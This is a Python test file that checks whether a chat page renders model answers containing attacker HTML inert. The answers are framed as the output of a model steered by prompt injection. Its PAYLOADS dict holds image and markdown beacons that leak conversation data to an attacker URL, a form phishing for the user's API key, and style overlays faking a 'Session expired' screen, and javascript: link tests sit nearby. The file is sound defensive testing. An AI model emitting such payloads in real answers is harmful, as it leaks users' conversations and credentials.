"""A model's answer that carries HTML renders inert in the chat page (headless Chromium).

The answer is the attacker's text: the sim engine answers with the prompt's text after its
echo marker (`worker_sim_echo_marker`, tests only; the session's shared stack sets it), as a
model steered by an injected prompt would. Each payload must render without an image beacon,
a form, a style effect or a style attribute; the page is served with a strict
Content-Security-Policy.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By

from tests.stack import Stack, wait_until
from tests.tenants import ECHO_MARKER
from tests.test_chat_page import answers, ask, browser, open_page, timings  # noqa: F401

ECHO = ECHO_MARKER


class Beacon:
    """A real HTTP server on its own port: what a leaked image or form would reach."""

    def __init__(self) -> None:
        hits = self.hits = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    b = Beacon()
    try:
        yield b
    finally:
        b.close()


# Text after each payload, shown once the answer is rendered: the payload was delivered.
DELIVERED = "payload-delivered"
# name -> the answer's text; `{beacon}` is the attacker's server.
PAYLOADS = {
    "img_beacon": 'Done. <img src="{beacon}/img?c=conversation">',
    "markdown_image": "Done. ![chart]({beacon}/md?c=conversation)",
    "form_asks_for_key": (
        '<form action="{beacon}/steal"><input name="key" placeholder="Re-enter your API key">'
        "<button>Continue</button></form>"
    ),
    "style_overlay": (
        "Hi<style>#log {{ display: none }} body {{ background: rgb(255, 0, 0) }}</style>"
    ),
    "style_attribute": (
        '<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%;'
        ' background: rgb(255, 0, 0)">Session expired</p>'
    ),
}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_an_answer_carrying_html_renders_inert(
    stack: Stack,
    browser: webdriver.Chrome,  # noqa: F811 (the fixture of tests/test_chat_page.py)
    beacon: Beacon,
    name: str,
) -> None:
    open_page(browser, stack)
    ask(browser, ECHO + PAYLOADS[name].format(beacon=beacon.url) + f" {DELIVERED}")
    wait_until(lambda: bool(timings(browser)), 30, "the whole answer")
    log = browser.find_element(By.ID, "log")
    # The payload did reach the page (the sim echoed it): else this test proves nothing.
    assert DELIVERED in log.text, log.text
    found = browser.execute_script(
        "const log = document.getElementById('log');"
        "return {img: log.querySelectorAll('img').length,"
        " form: document.querySelectorAll('form').length,"
        " input: log.querySelectorAll('input, button').length,"
        " style: log.querySelectorAll('style').length,"
        " styled: log.querySelectorAll('[style]').length,"
        " logShown: getComputedStyle(log).display,"
        " background: getComputedStyle(document.body).backgroundColor,"
        " fixed: [...log.querySelectorAll('*')].some("
        "   e => getComputedStyle(e).position === 'fixed')};"
    )
    assert found["img"] == 0, "an <img> in an answer is a beacon"
    assert found["form"] == 1, "only the page's own form"
    assert found["input"] == 0, "no input or button from an answer"
    assert found["style"] == 0
    assert found["styled"] == 0, "no style attribute from an answer"
    assert found["logShown"] != "none", "an answer's <style> hid the conversation"
    assert found["background"] != "rgb(255, 0, 0)", "an answer's <style> restyled the page"
    assert not found["fixed"], "an answer laid an overlay over the page"
    assert log.is_displayed()
    # No request reached the attacker's server (an image, or a form submitted by a click).
    for button in browser.find_elements(By.CSS_SELECTOR, "#log button"):
        button.click()
    assert beacon.hits == [], f"the answer leaked to {beacon.hits}"


def test_links_keep_only_safe_schemes_and_open_without_referrer(
    stack: Stack,
    browser: webdriver.Chrome,  # noqa: F811
) -> None:
    open_page(browser, stack)
    ask(
        browser,
        ECHO + "[docs](https://example.com/docs) [mail](mailto:a@example.com)"
        " [x](javascript:alert(1)) [d](data:text/html,hi)",
    )
    wait_until(lambda: bool(timings(browser)), 30, "the whole answer")
    links = browser.find_elements(By.CSS_SELECTOR, "#log .assistant a")
    hrefs = [a.get_attribute("href") for a in links]
    assert "https://example.com/docs" in hrefs
    assert "mailto:a@example.com" in hrefs
    assert not [h for h in hrefs if h and h.startswith(("javascript:", "data:"))]
    for a in links:
        if a.get_attribute("href"):
            assert "noopener" in (a.get_attribute("rel") or "")
            assert "noreferrer" in (a.get_attribute("rel") or "")


def test_the_page_is_served_with_a_strict_content_security_policy(stack: Stack) -> None:
    for path in ("/", "/static/chat.js"):
        got = httpx.get(stack.http_url + path)
        assert got.status_code == 200, path
        csp = got.headers.get("content-security-policy", "")
        directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
        assert directives.get("default-src") == ["'none'"], csp
        assert directives.get("script-src") == ["'self'"], csp
        assert directives.get("style-src") == ["'self'"], csp
        assert directives.get("form-action") == ["'none'"], csp
        assert directives.get("base-uri") == ["'none'"], csp
        assert directives.get("frame-ancestors") == ["'none'"], csp
        assert directives.get("img-src") in (["'none'"], ["'self'"]), csp
        assert got.headers.get("x-content-type-options") == "nosniff"
        assert got.headers.get("referrer-policy") == "no-referrer"


def test_the_page_still_works_under_its_policy(
    stack: Stack,
    browser: webdriver.Chrome,  # noqa: F811
) -> None:
    """The page's own script and style load from files the policy allows, and it chats."""
    open_page(browser, stack)  # the WebSocket connected: connect-src allows it
    ask(browser, ECHO + "**bold** and `code`")
    wait_until(lambda: bool(timings(browser)), 30, "the whole answer")
    html = answers(browser)[0].get_property("innerHTML")
    assert "<strong>bold</strong>" in str(html)
    assert "<code>code</code>" in str(html)
    # The stylesheet applied: the page's own style, not the browser's default.
    font = browser.execute_script("return getComputedStyle(document.body).maxWidth")
    assert font == "48rem" or font.endswith("px"), font
    errors = [
        e for e in browser.get_log("browser") if "Content Security Policy" in e.get("message", "")
    ]
    assert errors == [], errors
